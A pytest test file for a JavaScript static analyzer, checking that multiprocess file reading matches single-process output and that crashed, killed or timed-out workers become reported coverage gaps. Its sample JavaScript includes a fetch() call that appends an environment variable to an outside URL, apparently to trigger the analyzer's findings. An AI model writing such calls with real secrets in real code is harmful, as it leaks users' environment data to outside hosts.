"""Are files read in several processes as they are in one, and is a process that dies or does not end a gap and no more?"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

import analyzer
from analyzer import ScanOptions, reading, scan
from analyzer.config import Stop, resident_memory, silent
from analyzer.intake import open_target
from analyzer.intake.release import SourceFile
from analyzer.reading import Reading, is_worth_it, read_all
from analyzer.syntax import parse
from analyzer.syntax.tree import Tree

# CI runs them: it runs on Linux, where nothing is left out here. Elsewhere the end of the output counts them among what was not checked.
LINUX = pytest.mark.skipif(sys.platform != "linux", reason="what the test replaces reaches forked processes alone")
READS = 'fetch("https://example.org/?zone=" + process.env.TZ);\n'
TEXTS = {
    "a.js": READS,
    "b.mjs": 'import {a} from "./c.js"; export const {x, ...rest} = a?.b ?? [1, , `t${a}\\u2019`];\n' + READS,
    "broken.js": "function f() { return ]]; }\n" + READS,
    "c.js": "var e; try { f(arguments) } catch (e) { var e = 1 } with (e) eval('x')\n" * 3,
    "twin/a.js": READS,
    "twin/broken.js": "function f() { return ]]; }\n" + READS,
}


@pytest.fixture(autouse=True)
def _processes_always_pay(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "WORTH", 1)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    for name, text in TEXTS.items():
        file = tmp_path / "target" / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, encoding="utf-8")
    return tmp_path / "target"


@pytest.fixture
def sources(folder: Path) -> Sequence[SourceFile]:
    return open_target(str(folder)).sources


def read(sources: Sequence[SourceFile], jobs: int, stop: Stop | None = None) -> Reading:
    return read_all(sources, jobs=jobs, stop=stop or Stop(), progress=silent)


def misbehave(monkeypatch: pytest.MonkeyPatch, name: str, what: str) -> None:
    """From now on the file `name` does that to the process that reads it."""

    def bad(path: str, text: bytes, *, module: bool | None = None, language: str = "javascript") -> Tree:
        if path == name:
            exec(what)  # noqa: S102 - written in this file
        return parse(path, text, module=module)

    monkeypatch.setattr(reading, "parse", bad)


def unread(result: Reading) -> dict[str, str]:
    return {source.path: reason for source, reason in result.unread}


def paths(result: Reading) -> list[str]:
    return [tree.path for tree, _ in result.units]


# ---- the same result ----


@pytest.mark.parametrize("jobs", [2, 3, 16])
def test_any_number_of_processes_reads_the_same(sources: Sequence[SourceFile], jobs: int) -> None:
    alone, together = read(sources, 1), read(sources, jobs)
    assert [tree.path for tree, _ in alone.units] == sorted(TEXTS)
    assert together.units == alone.units  # every array of every tree and of its bindings
    assert {gap.file for tree, _ in together.units for gap in tree.gaps} == {"broken.js", "twin/broken.js"}
    assert together.unread == []
    assert set(together.seconds) == {"syntax", "scope"}


def test_a_report_does_not_depend_on_the_number_of_processes(folder: Path) -> None:
    one, two, many = (json.dumps(scan(folder, options=ScanOptions(jobs=jobs)).to_dict()) for jobs in (1, 2, 7))
    assert one == two == many
    assert json.loads(one)["findings"]


@pytest.mark.parametrize("jobs", [1, 2])
def test_equal_files_are_read_once(sources: Sequence[SourceFile], jobs: int, monkeypatch: pytest.MonkeyPatch) -> None:
    misbehave(monkeypatch, "twin/a.js", "raise AssertionError('read again')")
    assert paths(read(sources, jobs)) == sorted(TEXTS)


# ---- when processes are worth it ----


def test_small_releases_start_no_process(sources: Sequence[SourceFile], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.undo()

    def refuse(*arguments: object) -> None:
        raise AssertionError("a process was started")

    monkeypatch.setattr(reading, "_start", refuse)
    assert paths(read(sources, 8)) == sorted(TEXTS)


@pytest.mark.parametrize(
    ("sizes", "jobs", "expected"),
    [
        ([], 8, False),
        ([13_000_000], 8, False),  # nobody else has anything to do
        ([13_000_000, 20_000], 8, False),
        ([500_000] * 3, 2, False),
        ([500_000] * 8, 2, True),
        ([1_000_000] * 90, 1, False),
        ([1_000_000] * 2, 2, True),
    ],
)
def test_processes_are_started_where_they_save_time(sizes: list[int], jobs: int, expected: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.undo()
    assert is_worth_it(sizes, jobs) is expected


# ---- processes that do not do as they should ----


@LINUX
def test_a_killed_process_is_a_gap(sources: Sequence[SourceFile], monkeypatch: pytest.MonkeyPatch) -> None:
    misbehave(monkeypatch, "c.js", "os.kill(os.getpid(), signal.SIGKILL)")
    result = read(sources, 2)
    assert unread(result) == {"c.js": "the process that read it was ended by SIGKILL, perhaps because the machine ran out of memory"}
    assert paths(result) == sorted(set(TEXTS) - {"c.js"})


@LINUX
def test_a_process_that_ends_by_itself_is_a_gap(sources: Sequence[SourceFile], monkeypatch: pytest.MonkeyPatch) -> None:
    misbehave(monkeypatch, "a.js", "os._exit(7)")
    result = read(sources, 3)
    assert unread(result) == dict.fromkeys(("a.js", "twin/a.js"), "the process that read it ended with status 7")
    assert paths(result) == sorted(set(TEXTS) - {"a.js", "twin/a.js"})


@LINUX
@pytest.mark.parametrize("jobs", [1, 2])
def test_a_lack_of_memory_is_a_gap(jobs: int, sources: Sequence[SourceFile], monkeypatch: pytest.MonkeyPatch) -> None:
    misbehave(monkeypatch, "b.mjs", "raise MemoryError")
    assert unread(read(sources, jobs)) == {"b.mjs": reading.OUT_OF_MEMORY}


@LINUX
def test_a_gap_of_a_dead_process_is_in_the_report(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    misbehave(monkeypatch, "c.js", "os.kill(os.getpid(), signal.SIGUSR1)")
    report = scan(folder, options=ScanOptions(jobs=2)).to_dict()
    assert report["complete"] is False
    reason = "the process that read it was ended by SIGUSR1"
    assert {"file": "c.js", "start": 0, "end": len(TEXTS["c.js"]), "reason": reason} in report["coverage"]["gaps"]
    assert report["coverage"]["files_analysed"] == len(TEXTS) - 1
    assert report["findings"]


@LINUX
def test_a_defect_is_no_gap(sources: Sequence[SourceFile], monkeypatch: pytest.MonkeyPatch) -> None:
    misbehave(monkeypatch, "c.js", "raise KeyError('our mistake')")
    with pytest.raises(RuntimeError, match="our mistake"):
        read(sources, 2)
    with pytest.raises(KeyError, match="our mistake"):
        read(sources, 1)


# ---- limits ----


def settled(result: Reading, stuck: str, reason: str) -> None:
    """`stuck` was given up for `reason`, and so was what had not been begun."""
    assert unread(result)[stuck] == reason
    assert set(unread(result).values()) == {reason}
    assert sorted([*paths(result), *unread(result)]) == sorted(TEXTS)


@LINUX
def test_the_time_limit_ends_processes_at_work(sources: Sequence[SourceFile], monkeypatch: pytest.MonkeyPatch) -> None:
    misbehave(monkeypatch, "a.js", "time.sleep(60)")
    begin = time.monotonic()
    result = read(sources, 2, Stop(seconds=1.0))
    assert time.monotonic() - begin < 5
    settled(result, "a.js", "the time limit of 1 s was reached")
    assert "c.js" in paths(result)


@LINUX
def test_the_memory_of_processes_counts(sources: Sequence[SourceFile], monkeypatch: pytest.MonkeyPatch) -> None:
    misbehave(monkeypatch, "a.js", "held = bytearray(400_000_000); held[::4096] = bytes(len(held[::4096])); time.sleep(60)")
    begin = time.monotonic()
    stop = Stop(memory=resident_memory() + 200_000_000)
    result = read(sources, 2, stop)
    assert time.monotonic() - begin < 10
    settled(result, "a.js", f"the memory limit of {(stop.memory or 0) // 10**6} MB was reached")


@LINUX
@pytest.mark.parametrize(("cost", "together"), [(1, 2), (10**9, 1)])
def test_files_that_need_too_much_memory_together_are_read_apart(
    cost: int, together: int, sources: Sequence[SourceFile], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    (tmp_path / "busy").mkdir()
    counts = tmp_path / "counts"

    def slow(path: str, text: bytes, *, module: bool | None = None, language: str = "javascript") -> Tree:
        mine = tmp_path / "busy" / str(os.getpid())
        mine.touch()
        time.sleep(0.2)
        with counts.open("a") as file:
            file.write(f"{len(os.listdir(tmp_path / 'busy'))}\n")
        mine.unlink()
        return parse(path, text, module=module)

    monkeypatch.setattr(reading, "parse", slow)
    monkeypatch.setattr(reading, "MEMORY", cost)
    result = read(sources, 2, Stop(memory=resident_memory() + 2 * 10**9))
    assert paths(result) == sorted(TEXTS)
    assert max(map(int, counts.read_text().split())) == together


@LINUX
def test_no_process_outlives_the_reading(sources: Sequence[SourceFile], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    (tmp_path / "pids").mkdir()
    misbehave(monkeypatch, "a.js", f"open({str(tmp_path / 'pids')!r} + '/' + str(os.getpid()), 'w'); time.sleep(60)")
    read(sources, 2, Stop(seconds=0.5))
    (process,) = map(int, os.listdir(tmp_path / "pids"))
    with pytest.raises(ProcessLookupError):
        os.kill(process, 0)


INTERRUPTED = """
import sys, time
from analyzer import cli, reading
from analyzer.syntax import parse
reading.WORTH = 1
def slow(path, text, *, module=None, language="javascript"):
    if path == "a.js":
        print("started", file=sys.stderr, flush=True)
        time.sleep(60)
    return parse(path, text, module=module)
reading.parse = slow
cli.main()
"""


@LINUX
@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
@pytest.mark.parametrize("everybody", [False, True], ids=["one", "group"])
def test_a_signal_while_processes_read_gives_a_partial_report(
    folder: Path, tmp_path: Path, number: signal.Signals, everybody: bool
) -> None:
    environment = {**os.environ, "PYTHONPATH": str(Path(analyzer.__file__).parents[1])}
    command = [sys.executable, "-c", INTERRUPTED, "scan", str(folder), "--jobs", "2", "--output", str(tmp_path / "r.json")]
    process = subprocess.Popen(command, env=environment, stderr=subprocess.PIPE, text=True, start_new_session=True)
    assert process.stderr is not None
    while "started" not in process.stderr.readline():
        assert process.poll() is None
    begin = time.monotonic()
    if everybody:  # as a terminal does it
        os.killpg(process.pid, number)
    else:
        process.send_signal(number)
    _, errors = process.communicate(timeout=30)
    assert time.monotonic() - begin < 10
    assert process.returncode == 3, errors
    report = json.loads((tmp_path / "r.json").read_text())
    reasons = {gap["file"]: gap["reason"] for gap in report["coverage"]["gaps"]}
    assert reasons["a.js"] == f"the run was interrupted ({number.name})"
    assert report["complete"] is False
